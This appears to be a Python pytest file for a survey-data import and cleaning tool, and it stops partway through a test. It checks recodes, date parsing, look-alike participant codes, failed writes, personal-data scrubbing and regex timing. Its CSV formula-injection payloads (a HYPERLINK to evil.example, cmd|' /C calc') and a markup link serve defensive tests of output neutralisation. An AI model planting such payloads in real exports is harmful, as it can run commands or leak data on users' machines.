"""Messy files and hostile inputs: the correct result or a clear error, never a silent wrong
result, a traceback, a leak, a hang or a partial output.

The cases that must fail are in ``test_catalogue.py`` (checked API, CLI, exit code and
"nothing written" alike); this file holds the cases whose right answer is a result, and
those that need a fault injected (a file changing while read, a full disk, SIGKILL).
"""

from __future__ import annotations

import contextlib
import csv
import errno
import hashlib
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyreadstat
import pytest
from typer.testing import CliRunner

from impact import cli
from impact import io as impact_io
from impact.clean import parse_times, review
from impact.cleaning.item_rules import check_not_shifted
from impact.cli import app
from impact.definitions import load_survey
from impact.demo import DEMO_SURVEY
from impact.errors import InputError
from impact.export import export, neutralise_formula, neutralise_formulas, spss_names
from impact.io import read_export
from impact.pipeline import load_programme
from impact.scrub import _PATTERNS, MAX_ANSWER_CHARS, PLACEHOLDERS, scrub_text

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "tools"
runner = CliRunner()


@contextlib.contextmanager
def time_limit(seconds: int):
    """Fail instead of hanging: SIGALRM after ``seconds``."""

    def expired(signum, frame):
        raise TimeoutError(f"took more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def programme(tmp_path: Path) -> Path:
    """A writable copy of the fixture programme; returns its folder."""
    target = tmp_path / "programme"
    shutil.copytree(FIXTURES, target, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    return target


def _edit(path: Path, old: str, new: str, encoding: str = "utf-8", count: int = 1) -> None:
    text = path.read_bytes().decode(encoding)
    assert old in text, f"{old!r} is not in {path.name}"
    path.write_bytes(text.replace(old, new, count).encode(encoding))


def _who5_means(programme) -> pd.Series:
    scores = programme.scores
    who5 = scores[(scores["scale"] == "who5") & (scores["frame"] == "now")]
    return who5.groupby("wave", observed=True)["score"].mean()


# --- 1. silent wrong results: labels, recodes and shifted scales -----------------------


def _as_label_texts(path: Path, columns: list[str], labels: dict[int, str], *, every: int = 1):
    """The Qualtrics export with answer texts (its "choice text" export) instead of codes
    1..6 in ``columns``: code ``c`` becomes the label of value ``c - 1``; only every
    ``every``-th row is changed (a mixed column)."""
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    header = next(csv.reader([lines[0]]))
    at = [header.index(c) for c in columns]
    rows = list(csv.reader(lines[3:]))
    for n, row in enumerate(rows):
        if n % every:
            continue
        for i in at:
            if row[i].strip().lstrip("-").isdigit() and 1 <= int(row[i]) <= 6:
                row[i] = labels[int(row[i]) - 1]
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        handle.write("\n".join(lines[:3]) + "\n")
        csv.writer(handle, lineterminator="\n").writerows(rows)


@pytest.mark.parametrize(
    ("language", "numbered", "every"),
    [("en", False, 1), ("de", False, 1), ("en", True, 1), ("de", False, 2)],
    ids=["english-texts", "german-texts", "numbered-texts", "half-texts-half-codes"],
)
def test_an_export_of_answer_texts_gives_the_scores_of_the_numeric_export(
    demo_copy, language, numbered, every
):
    """WHO-5 at milestone 2: 57.3 from the codes; the texts were recoded twice (37.4)."""
    before = _who5_means(load_programme(demo_copy))
    _, instruments = load_survey(demo_copy)
    labels = {
        value: (f"{value} = " if numbered else "") + text[language]
        for value, text in instruments["who5"].response.labels.items()
    }
    export_file = demo_copy.parent / "raw" / "milestone-2.csv"
    _as_label_texts(export_file, [f"WHO5_{i}" for i in range(1, 6)], labels, every=every)
    programme = load_programme(demo_copy)
    after = _who5_means(programme)
    pd.testing.assert_series_equal(after, before)
    assert round(after["milestone-2"], 1) == round(before["milestone-2"], 1) > 50
    log = programme.cleaned.log
    assert log["rule"].eq("labels_not_recoded").sum() == 5, "each text column is logged"
    ranges = programme.cleaned.columns
    texts = ranges[ranges["column"].str.startswith("WHO5_") & ranges["wave"].eq("milestone-2")]
    assert texts["as_labels"].gt(0).all() and texts["observed_max"].le(5).all()


def test_codes_1_to_6_without_their_recode_are_refused_not_set_missing(demo_copy):
    survey = demo_copy
    recode = "{1: 0, 2: 1, 3: 2, 4: 3, 5: 4, 6: 5}"
    text = survey.read_text(encoding="utf-8")
    text = text.replace(
        f"WHO5[SQ001]: {{item: who5.i1, recode: &who5_1to6 {recode}}}", "WHO5[SQ001]: who5.i1"
    )
    for i in range(2, 6):
        text = text.replace(
            f"WHO5[SQ00{i}]: {{item: who5.i{i}, recode: *who5_1to6}}", f"WHO5[SQ00{i}]: who5.i{i}"
        )
    # The Qualtrics mapping still uses the anchor: define it there.
    text = text.replace(
        "WHO5_1: {item: who5.i1, recode: *who5_1to6}",
        f"WHO5_1: {{item: who5.i1, recode: &who5_1to6 {recode}}}",
    )
    survey.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as raised:
        load_programme(survey)
    message = str(raised.value)
    assert "milestone-1.csv" in message and "column 'WHO5[SQ00" in message
    assert "lie in 1..6" in message and "shifted by +1" in message and "recode" in message
    out = demo_copy.parent.parent / "out"
    result = runner.invoke(app, ["import", str(survey), "--out", str(out)])
    assert result.exit_code == 3 and "shifted by +1" in result.output
    assert not out.exists()


def test_a_recode_copied_onto_an_export_that_needs_none_is_refused(demo_copy):
    """The demo's SoSci exports store 0..5: the LimeSurvey recode on them is wrong."""
    text = demo_copy.read_text(encoding="utf-8")
    for i in range(1, 6):
        text = text.replace(
            f"WB01_0{i}: who5.i{i}\n",
            f"WB01_0{i}: {{item: who5.i{i}, recode: {{1: 0, 2: 1, 3: 2, 4: 3, 5: 4, 6: 5}}}}\n",
        )
    demo_copy.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=r"the recode turns 1 into 0, but the column also holds 0"):
        load_programme(demo_copy)


@pytest.mark.parametrize(
    ("values", "step"),
    [
        ([[1, 2, 6], [3, 6, np.nan]], "+1"),  # 0..5 stored as 1..6
        ([[-1, 0, 2], [4, 3, 1]], "-1"),  # 0..5 stored as -1..4
    ],
)
def test_values_one_step_off_the_scale_at_one_end_are_refused(values, step):
    _, instruments = load_survey(FIXTURES / "survey.yml")
    matrix = np.array(values, dtype=float)
    with pytest.raises(InputError, match=rf"shifted by \{step}"):
        check_not_shifted(matrix, [0, 1, 2], ["a", "b", "c"], instruments["who5"], file="f.csv")


@pytest.mark.parametrize(
    "values",
    [
        [[0, 2, 6], [3, 5, np.nan]],  # a typo (6) in a column that also uses 0: set missing
        [[1, 2, 9], [3, 4, 5]],  # far outside: not a shift (set missing, logged)
        [[1, 2, 3], [4, 5, 5]],  # nobody chose 0: nothing wrong
    ],
)
def test_stray_values_and_unused_ends_are_not_taken_for_a_shift(values):
    _, instruments = load_survey(FIXTURES / "survey.yml")
    matrix = np.array(values, dtype=float)
    check_not_shifted(matrix, [0, 1, 2], ["a", "b", "c"], instruments["who5"], file="f.csv")


def test_a_typo_above_the_scale_is_set_missing_and_logged(programme):
    """Office WHO-5 values 2..5 plus one 6, and a 0 elsewhere: one typo, no shift."""
    office = programme / "office.csv"
    _edit(office, "4,0;5,0;4,0;4,0;5,0", "6,0;5,0;4,0;0,0;5,0", "cp1252")
    cleaned = load_programme(programme / "survey.yml").cleaned
    outside = cleaned.log[cleaned.log["rule"].eq("out_of_range")]
    assert ("office.csv", "Wohlbefinden_1", "6,0") in {
        (Path(f).name, c, v) for f, c, v in outside[["file", "column", "old_value"]].to_numpy()
    }


def test_check_shows_each_item_columns_observed_range_beside_its_scale(monkeypatch):
    monkeypatch.setattr(cli.console, "width", 300)
    result = runner.invoke(app, ["check", str(FIXTURES / "survey.yml")], terminal_width=240)
    assert result.exit_code == 0, result.output
    assert "observed range beside the scale" in result.output
    line = next(row for row in result.output.splitlines() if "WB01_01" in row)
    assert "0..5" in line and "yes" in line  # SoSci's 1..6, recoded


# --- 1. start and submit times ---------------------------------------------------------


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        (["10.11.2023 09:30", "1.2.2024"], ["2023-11-10 09:30:00", "2024-02-01 00:00:00"]),
        (["10.11.23, 09:30:15"], ["2023-11-10 09:30:15"]),
        (["45240.396", "45240"], ["2023-11-10 09:30:14", "2023-11-10 00:00:00"]),
        (["13/11/2023 09:30", "01/12/2023"], ["2023-11-13 09:30:00", "2023-12-01 00:00:00"]),
        (["11/13/2023 9:30 PM", "12/01/2023"], ["2023-11-13 21:30:00", "2023-12-01 00:00:00"]),
        (["2023-11-10T09:30:00+01:00"], ["2023-11-10 08:30:00"]),
        (["", " "], ["NaT", "NaT"]),
    ],
)
def test_times_are_read_day_first_excel_serial_or_by_the_columns_order(cells, expected):
    times = parse_times(pd.Series(cells, index=range(1, len(cells) + 1)), file="f", column="c")
    assert [str(t) for t in times] == expected


@pytest.mark.parametrize(
    ("cells", "fragment"),
    [
        (["01/02/2023", "03/04/2023"], "day first or month first"),
        (["13/11/2023", "11/13/2023"], "day first or month first"),
        (["2024-01-10 18:00", "30.02.2024"], "row 2: '30.02.2024' is not a date"),
        (["vorgestern"], "row 1: 'vorgestern' is not a date"),
    ],
)
def test_times_that_cannot_be_told_apart_or_read_are_refused(cells, fragment):
    with pytest.raises(InputError, match=fragment):
        parse_times(pd.Series(cells, index=range(1, len(cells) + 1)), file="f", column="c")


@pytest.mark.parametrize(
    ("earlier", "later"),
    [
        ("10.01.2024 18:09:11", "02.03.2024 08:00:00"),  # month-first: 1 Oct after 3 Feb
        ("45301.75", "45353.33"),  # Excel serial numbers: 10 Jan and 2 Mar 2024
    ],
    ids=["german-day-first", "excel-serial-numbers"],
)
def test_the_latest_submission_is_kept_whatever_the_date_format(programme, earlier, later):
    """BE03MU answered twice (rows 2 and 3): the later, complete one must be kept."""
    sosci = programme / "sosci.csv"
    _edit(sosci, "2024-01-10 18:09:11;BE03MU;3;3;-9", f"{later};BE03MU;3;3;-9")
    _edit(sosci, "2024-01-10 18:16:11;BE03MU", f"{earlier};BE03MU")
    # Both complete: finished and on the last page.
    text = sosci.read_bytes().decode("utf-8-sig").splitlines()
    header = text[0].split(";")
    row = text[2].split(";")
    row[header.index("FINISHED")] = "1"
    row[header.index("LASTPAGE")] = row[header.index("MAXPAGE")]
    text[2] = ";".join(row)
    sosci.write_bytes(("\ufeff" + "\n".join(text) + "\n").encode("utf-8"))
    submissions = load_programme(programme / "survey.yml").cleaned.submissions
    rows = submissions[
        submissions["file"].str.endswith("sosci.csv") & submissions["key"].eq("BE03MU")
    ]
    kept = rows[rows["status"].eq("kept")]
    assert kept["raw_row"].tolist() == [2], rows[["raw_row", "started", "status", "reason"]]
    assert rows.loc[rows["raw_row"].eq(3), "reason"].tolist() == ["duplicate"]


# --- 1. registries: blank lines, totals -------------------------------------------------


def test_blank_and_delimiter_only_registry_rows_are_skipped_and_logged(programme):
    registry = programme / "registry.csv"
    lines = registry.read_text(encoding="utf-8").splitlines()
    registry.write_text(
        "\n".join([*lines[:4], "", ",,,,,,", *lines[4:], " , ,,,,,", ""]) + "\n", encoding="utf-8"
    )
    programme_ = load_programme(programme / "survey.yml")
    assert len(programme_.registry) == 8, "eight people, not nine"
    skipped = programme_.cleaned.log[programme_.cleaned.log["rule"].eq("blank_row_skipped")]
    assert len(skipped) == 2
    assert programme_.participation()["registered"].eq(8).all()


@pytest.mark.parametrize("total", ["Total", "Summe:", "Gesamt (n=8)", "insgesamt", "Σ"])
def test_total_rows_are_refused_in_registries_and_exports(programme, total):
    registry = programme / "registry.csv"
    registry.write_text(
        registry.read_text(encoding="utf-8") + f"{total},8,,,,,\n", encoding="utf-8"
    )
    with pytest.raises(InputError, match=r"row 9: the row looks like a total row"):
        load_programme(programme / "survey.yml")


def test_a_code_that_starts_like_a_total_word_is_a_code(programme):
    for old, new in [("AN12KL", "SUM12K"), ("BE03MU", "TOTAL3")]:
        for name in ("registry.csv", "sosci.csv"):
            path = programme / name
            text = path.read_bytes().decode("utf-8-sig" if name == "sosci.csv" else "utf-8")
            path.write_bytes(text.replace(old, new).encode("utf-8"))
    registry = load_programme(programme / "survey.yml").registry
    assert {"SUM12K", "TOTAL3"} <= set(registry["participant"])


# --- 1. look-alike codes ---------------------------------------------------------------

FULL_WIDTH = str.maketrans(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
    "ＡＢＣＤＥＦＧＨＩＪＫＬＭＮＯＰＱＲＳＴＵＶＷＸＹＺ０１２３４５６７８９",
)


@pytest.mark.parametrize(
    "typed",
    [
        "AN12KL".translate(FULL_WIDTH),
        "ａｎ１２ｋｌ",  # full-width lower case
        "AN\u200a12\u3000KL",  # hair and ideographic spaces
        "AN\u2460\u2461KL".replace("\u2460\u2461", "12"),
        "\uff21N12KL",  # one full-width letter
    ],
)
def test_full_width_and_compatibility_codes_match_their_registered_key(programme, typed):
    _edit(programme / "limesurvey.csv", '"AN12KL"', f'"{typed}"')
    cleaned = load_programme(programme / "survey.yml").cleaned
    row = cleaned.submissions[
        cleaned.submissions["file"].str.endswith("limesurvey.csv")
        & cleaned.submissions["raw_row"].eq(1)
    ]
    assert row["participant"].tolist() == ["AN12KL"] and row["status"].tolist() == ["kept"]
    assert not review(cleaned)["old_value"].isin([typed]).any()


@pytest.mark.parametrize(
    ("typed", "looks_like"),
    [
        ("\u0410N12\u041aL", "AN12KL"),  # Cyrillic А and К: two edits, too many for a typo
        ("\u0412\u0415\u041e3\u041c\u0423", None),  # not a registered key's look-alike
        ("\u0421\u041b27\u0405\u0422", None),
        ("\u0391\u039d12\u039a\u004c", "AN12KL"),  # Greek Α, Ν, Κ with a Latin L
        ("\u0422\u041d02\u0422\u0422", None),
    ],
)
def test_look_alike_letters_of_other_scripts_are_flagged_for_review_not_guessed(
    programme, typed, looks_like
):
    _edit(programme / "limesurvey.csv", '"AN12KL"', f'"{typed}"')
    cleaned = load_programme(programme / "survey.yml").cleaned
    submissions = cleaned.submissions
    row = submissions[
        submissions["file"].str.endswith("limesurvey.csv") & submissions["raw_row"].eq(1)
    ]
    participant = row["participant"].iloc[0]
    flagged = review(cleaned)
    confusable = flagged[flagged["rule"].eq("key_confusable")]
    if looks_like is not None and participant != looks_like:
        assert confusable["new_value"].tolist() == [looks_like], flagged
    if participant != looks_like:
        assert participant in set(flagged["old_value"]), "an unknown key is always reviewed"


def test_the_cyrillic_code_of_the_issue_is_flagged_with_its_latin_twin(tmp_path, monkeypatch):
    monkeypatch.setattr(cli.console, "width", 300)
    """``ТН02ТТ`` typed in Cyrillic where TH02TT is registered: one review row names both."""
    folder = tmp_path / "p"
    shutil.copytree(DEMO_SURVEY.parent, folder)
    final = folder / "raw" / "final.csv"
    text = final.read_text(encoding="utf-8")
    assert "\tTH02TT\t" in text
    final.write_text(
        text.replace("\tTH02TT\t", "\t\u0422\u041d02\u0422\u0422\t", 1), encoding="utf-8"
    )
    cleaned = load_programme(folder / "survey.yml").cleaned
    flagged = review(cleaned)
    row = flagged[flagged["rule"].eq("key_confusable")]
    assert row["old_value"].tolist() == ["\u0422\u041d02\u0422\u0422"]
    assert row["new_value"].tolist() == ["TH02TT"]
    result = runner.invoke(app, ["check", str(folder / "survey.yml")], terminal_width=200)
    assert result.exit_code == 0 and "key_confusable" in result.output


# --- 1. provenance and files that change while read ------------------------------------


def test_import_writes_the_sha256_of_every_raw_file(tmp_path):
    out = tmp_path / "data"
    result = runner.invoke(app, ["import", str(FIXTURES / "survey.yml"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    provenance = pd.read_csv(out / "provenance.csv", dtype=str)
    survey, _ = load_survey(FIXTURES / "survey.yml")
    names = [survey.registry.file, *(f.path for w in survey.waves for f in w.files)]
    assert [Path(p).name for p in provenance["path"]] == names
    for path, digest in zip(provenance["path"], provenance["sha256"], strict=True):
        assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == digest


@pytest.mark.parametrize("name", ["sosci.csv", "spss.sav", "paper.xlsx"])
def test_a_file_that_changes_while_it_is_read_is_refused(programme, monkeypatch, name):
    path = programme / name
    readers = {"sosci.csv": "_read_text", "spss.sav": "_read_sav", "paper.xlsx": "_read_xlsx"}
    original = getattr(impact_io, readers[name])

    def append_while_reading(*args, **kwargs):
        result = original(*args, **kwargs)
        with path.open("ab") as handle:  # the survey tool is still writing
            handle.write(b"\n")
        os.utime(path, ns=(time.time_ns(), time.time_ns() + 10**9))
        return result

    monkeypatch.setattr(impact_io, readers[name], append_while_reading)
    with pytest.raises(InputError, match="the file changed while it was read"):
        read_export(path)


def test_the_hash_is_of_the_bytes_that_were_parsed(programme):
    raw = read_export(programme / "paper.xlsx", sheet="Antworten")
    assert (
        raw.provenance.sha256 == hashlib.sha256((programme / "paper.xlsx").read_bytes()).hexdigest()
    )


# --- 2. tracebacks ---------------------------------------------------------------------


def test_a_fifo_is_refused_without_waiting_for_a_writer(programme):
    (programme / "sosci.csv").unlink()
    os.mkfifo(programme / "sosci.csv")
    with time_limit(10), pytest.raises(InputError, match="FIFO"):
        read_export(programme / "sosci.csv")
    with time_limit(30), pytest.raises(InputError, match="FIFO"):
        load_programme(programme / "survey.yml")


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
def test_devices_are_refused_before_a_byte_is_read(device):
    with time_limit(5), pytest.raises(InputError, match="not a regular file but a character"):
        read_export(device)


def test_registry_attribute_names_spss_refuses_are_renamed_in_the_sav(programme, tmp_path):
    survey = programme / "survey.yml"
    _edit(
        survey,
        "columns: {sector: sector, role: role, tandem: tandem, site: site}",
        'columns: {"sector group": sector, "1st role": role, ALL: tandem, "Standort-Ort": site}',
    )
    _edit(
        survey,
        """    breakdowns: [sector, role, site]
    sector: sector
    pairing: {attribute: tandem, member: role}""",
        """    breakdowns: [sector group, 1st role, Standort-Ort]
    sector: sector group
    pairing: {attribute: ALL, member: 1st role}""",
    )
    programme_ = load_programme(survey)
    written = export(programme_.cleaned, programme_.instruments, tmp_path / "o", formats=["sav"])
    frame, meta = pyreadstat.read_sav(str(written[0]))
    assert {"sector_group", "v1st_role", "ALL_", "Standort_Ort"} <= set(frame.columns)
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["sector_group"] == "sector group" and labels["ALL_"] == "ALL"


def test_spss_names_are_valid_and_distinct():
    names = spss_names(["a b", "a_b", "A_B", "x" * 80, "ümlaut", "2", "wave", "with", "$x"])
    values = list(names.values())
    assert len({v.casefold() for v in values}) == len(values)
    assert all(len(v.encode()) <= 64 and v[0].isalpha() for v in values)
    assert names["with"] == "with_" and names["ümlaut"] == "ümlaut"


@pytest.mark.parametrize("participants", [2, 3, 4, 7])
def test_demo_programmes_of_a_few_people_are_written_and_checked(tmp_path, participants):
    out = tmp_path / "small"
    result = runner.invoke(app, ["demo", "--participants", str(participants), "--out", str(out)])
    assert result.exit_code == 0, result.output
    checked = runner.invoke(app, ["check", str(out / "survey.yml")])
    assert checked.exit_code == 0, checked.output


@pytest.mark.parametrize("markup", ["[/b]", "[bold red]", "[link=http://evil.example]x[/link]"])
def test_rich_markup_in_a_code_is_printed_as_text(programme, tmp_path, monkeypatch, markup):
    monkeypatch.setattr(cli.console, "width", 300)
    _edit(programme / "limesurvey.csv", '"BE03MU"', f'"{markup}"')
    for verb in (["check"], ["import", "--out", str(tmp_path / f"o{len(markup)}")]):
        result = runner.invoke(
            app, [verb[0], str(programme / "survey.yml"), *verb[1:]], terminal_width=300
        )
        assert result.exit_code == 0, result.output
        shown = markup.upper().replace(" ", "")  # as normalised
        assert shown in result.output, "the code is shown as text, not as markup"


def _failing_sav(error: BaseException):
    def write_sav(*args, **kwargs):
        Path(args[1]).write_bytes(b"$FL2 half a file")
        raise error

    return write_sav


@pytest.mark.parametrize(
    "error",
    [OSError(errno.ENOSPC, "No space left on device"), pyreadstat.ReadstatError("Unable to write")],
    ids=["oserror", "readstat-error"],
)
def test_a_full_disk_while_the_sav_is_written_leaves_no_output_at_all(tmp_path, monkeypatch, error):
    monkeypatch.setattr(pyreadstat, "write_sav", _failing_sav(error))
    out = tmp_path / "data"
    result = runner.invoke(
        app, ["import", str(FIXTURES / "survey.yml"), "--out", str(out), "-e", "csv", "-e", "sav"]
    )
    assert result.exit_code == 4, result.output
    last = result.output.strip().splitlines()[-1]
    assert (
        last.startswith("error: cannot write cleaned.sav into") and "Traceback" not in result.output
    )
    assert "none of the outputs was written" in last
    assert not out.exists(), "no CSV, no half .sav, no scratch folder"


def test_a_failed_write_keeps_the_previous_complete_outputs_untouched(tmp_path, monkeypatch):
    out = tmp_path / "data"
    assert (
        runner.invoke(app, ["import", str(FIXTURES / "survey.yml"), "--out", str(out)]).exit_code
        == 0
    )
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    monkeypatch.setattr(pyreadstat, "write_sav", _failing_sav(OSError(errno.EDQUOT, "Disk quota")))
    result = runner.invoke(
        app, ["import", str(FIXTURES / "survey.yml"), "--out", str(out), "-e", "sav"]
    )
    assert result.exit_code == 4 and "[EDQUOT]" in result.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


# --- 3. leaks: formulas in CSV outputs -------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&B2)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_neutralised_in_every_csv_output(programme, tmp_path, formula):
    _edit(programme / "registry.csv", ",Moshi\n", f',"{formula.replace(chr(34), chr(34) * 2)}"\n')
    _edit(programme / "limesurvey.csv", '"BE03MU"', f'"{formula.replace(chr(34), chr(34) * 2)}"')
    out = tmp_path / "data"
    result = runner.invoke(
        app, ["import", str(programme / "survey.yml"), "--out", str(out), "-e", "csv"]
    )
    assert result.exit_code == 0, result.output
    found = 0
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not (
                        cell.startswith(("=", "+", "@", "\t", "\r"))
                        or (
                            cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()
                        )
                    ), f"{path.name}: {cell!r}"
                    found += cell.startswith("'") and cell[1:2] in "=+-@"
    assert found >= 3, "the neutralised cells are still there, with a leading quote"


def test_neutralising_keeps_numbers_and_other_text():
    table = pd.DataFrame(
        {
            "a": ["-9", "+3.5", "=1+1", "x", None, "\tcmd"],
            "b": pd.Categorical(["@a", "b", "b", "@a", "b", "b"]),
            "c": [-1.0, 2.0, np.nan, 4.0, 5.0, 6.0],
        }
    )
    out = neutralise_formulas(table)
    assert out["a"].where(out["a"].notna(), None).tolist() == [
        "-9",
        "+3.5",
        "'=1+1",
        "x",
        None,
        "'\tcmd",
    ]
    assert out["b"].astype(str).tolist() == ["'@a", "b", "b", "'@a", "b", "b"]
    assert out["c"].equals(table["c"]) and table["a"].iloc[2] == "=1+1", "input unchanged"
    assert neutralise_formula("=") == "'=" and neutralise_formula("-") == "'-"


# --- 3. leaks: scrubbing ---------------------------------------------------------------

NAMES = ["Zoë Zimmer", "Jonas Krüger", "Ben Müller", "TH02TT", "AN12KL", "zoe.zimmer@example.org"]


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("my code is TH02TT", ["TH02TT"]),
        ("AN12KL and th02tt met", ["AN12KL", "th02tt"]),
        ("Ask QX55RB, she is not registered", ["QX55RB"]),  # another person's code
        ("\u0422\u041d02\u0422\u0422 wrote this", ["\u0422\u041d02\u0422\u0422"]),
        ("from 192.0.2.44 and 2001:db8::8a2e:370:7334", ["192.0.2.44", "2001:db8"]),
        ("write zoe at gmx dot de", ["gmx", "zoe at"]),
        ("zoe(at)gmx(dot)de or zoe [at] gmx [dot] de", ["gmx"]),
        ("zoe(at)gmx.de", ["gmx"]),
        ("ｚｏｅ＠ｇｍｘ．ｄｅ", ["ｇｍｘ", "gmx"]),
        ("zoe @ gmx . de", ["gmx"]),
        ("call 0171.2345678 or 0171/2345678", ["2345678"]),
        ("+49 (0) 171-234 56 78, 0049.171.2345678", ["234", "2345678"]),
        ("Zoes idea and Krügers, Jonas' and Ben's", ["Zoe", "Krüger", "Jonas", "Ben"]),
        (
            "Zoe Zimmer and Krueger, Kruger, Mueller, Muller",
            ["Zoe", "Zimmer", "Krueger", "Kruger", "Mueller", "Muller"],
        ),
        ("ZOË and zoë and KRÜGER", ["ZOË", "zoë", "KRÜGER"]),
        ("Müller-Lüdenscheidt", ["Müller"]),
    ],
)
def test_scrubbing_removes_codes_addresses_phones_and_names_in_any_spelling(text, gone):
    scrubbed = scrub_text(text, names=NAMES)
    for value in gone:
        assert value.casefold() not in scrubbed.casefold(), scrubbed


@pytest.mark.parametrize(
    "text",
    [
        "We met at 10:30:00 at the town hall. Then we left at noon.",
        "In 2024 we met 12 times on 01.02.2024, scoring 0.5 and 4.25.",
        "Look at this. The end is near; see chapter 3.2.1.",
        "Annabelle and Zoey are not in the registry.",
        "Der Zugang war gut, die Gruppe von der Uni auch.",
    ],
)
def test_scrubbing_leaves_ordinary_text_alone(text):
    assert scrub_text(text, names=[*NAMES, "Anna van der Berg"]) == text


ADVERSARIAL = {
    "word run": "a" * 120_000,
    "dotted words": "a." * 60_000,
    "zeros and spaces": "0 " * 60_000,
    "www": "www." * 30_000,
    "at signs": "a@" * 60_000,
    "spelled at": "a at b dot " * 11_000,
    "colons": "a:" * 60_000,
    "digits and colons": "1:" * 60_000,
    "dotted digits": "1." * 60_000,
    "brackets": "(at)" * 30_000,
    "plus digits": "+1" * 60_000,
    "hyphens": "a-" * 60_000,
    "apostrophes": "a'" * 60_000,
    "urls": "http://" * 17_000,
    "hyphenated domain": "a-" * 30_000 + ".de",
}


@pytest.mark.parametrize("name", list(ADVERSARIAL))
def test_every_pattern_runs_in_linear_time_on_adversarial_answers(name):
    text = ADVERSARIAL[name]
    with time_limit(10):
        for pattern, _ in _PATTERNS:
            started = time.perf_counter()
            pattern.sub("x", text)
            assert time.perf_counter() - started < 1.0, f"{pattern.pattern[:40]} on {name}"


def test_a_120000_character_answer_is_bounded_and_scrubbed_quickly():
    answer = "Kontakt: zoe@gmx.de " + "a" * 120_000 + " tel 0171 2345678"
    with time_limit(5):
        started = time.perf_counter()
        scrubbed = scrub_text(answer, names=NAMES)
        assert time.perf_counter() - started < 1.0
    assert len(scrubbed) <= MAX_ANSWER_CHARS + 10 and scrubbed.endswith("[…]")
    assert PLACEHOLDERS["email"] in scrubbed and "gmx" not in scrubbed


# --- 4. paths --------------------------------------------------------------------------


def test_an_outside_folder_the_definition_allows_is_read(programme, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    shutil.move(programme / "office.csv", shared / "office.csv")
    survey = programme / "survey.yml"
    _edit(survey, "path: office.csv", f"path: {shared / 'office.csv'}")
    with pytest.raises(InputError, match="outside the programme's folder"):
        load_programme(survey)
    _edit(survey, "missing_codes: [-99]", "missing_codes: [-99]\ndata_folders: [../shared]")
    accounting = load_programme(survey).accounting()
    assert "office.csv" in {Path(f).name for f in accounting["file"]}


# --- 5. partial outputs ----------------------------------------------------------------

KILLED_IMPORT = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    import pyreadstat

    def write_sav(frame, path, **kwargs):
        Path(path).write_bytes(b"$FL2 half")
        Path(sys.argv[2]).write_text("writing")
        time.sleep(60)

    pyreadstat.write_sav = write_sav
    from impact.cli import app
    app(["import", sys.argv[1], "--out", sys.argv[3], "-e", "csv", "-e", "sav"])
    """
)


def test_sigkill_during_the_sav_export_leaves_nothing_and_the_next_run_cleans_up(tmp_path):
    out, marker = tmp_path / "data", tmp_path / "writing"
    out.mkdir()
    stale = out / ".cleaned.sav.abc123.tmp"  # left by an interrupted earlier write
    stale.write_bytes(b"$FL2 stale")
    process = subprocess.Popen(
        [sys.executable, "-c", KILLED_IMPORT, str(FIXTURES / "survey.yml"), str(marker), str(out)],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 120
        while not marker.exists():
            assert process.poll() is None and time.monotonic() < deadline, "the import never wrote"
            time.sleep(0.05)
        process.kill()  # SIGKILL: no handler, no cleanup
        process.wait(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
    visible = [p.name for p in out.iterdir() if not p.name.startswith(".")]
    assert visible == [], "no CSV appears before every output is complete"
    result = runner.invoke(
        app, ["import", str(FIXTURES / "survey.yml"), "--out", str(out), "-e", "csv", "-e", "sav"]
    )
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        "cleaned.csv",
        "cleaned.sav",
        "cleaning_log.csv",
        "provenance.csv",
        "responses.csv",
        "scores.csv",
    ], "the killed run's scratch folder and the stale temporary file are gone"
    pyreadstat.read_sav(str(out / "cleaned.sav"))


# --- 6. harmless files -----------------------------------------------------------------


@pytest.mark.parametrize("trailing", [";;;", ";", ";;;;;;;;;;"])
def test_excel_csvs_with_trailing_empty_columns_are_read_as_the_clean_file(programme, trailing):
    clean_scores = load_programme(programme / "survey.yml").scores
    office = programme / "office.csv"
    lines = office.read_bytes().decode("cp1252").splitlines()
    office.write_bytes("\r\n".join(line + trailing for line in lines).encode("cp1252") + b"\r\n")
    messy = load_programme(programme / "survey.yml")
    pd.testing.assert_frame_equal(messy.scores, clean_scores)


def test_a_registry_saved_with_trailing_empty_columns_is_read(programme):
    registry = programme / "registry.csv"
    registry.write_text(
        "\n".join(line + ",,," for line in registry.read_text(encoding="utf-8").splitlines())
        + "\n",
        encoding="utf-8",
    )
    assert len(load_programme(programme / "survey.yml").registry) == 8


def test_an_empty_unnamed_column_in_the_middle_is_dropped(programme):
    office = programme / "office.csv"
    lines = office.read_bytes().decode("cp1252").split("\n")
    office.write_bytes(
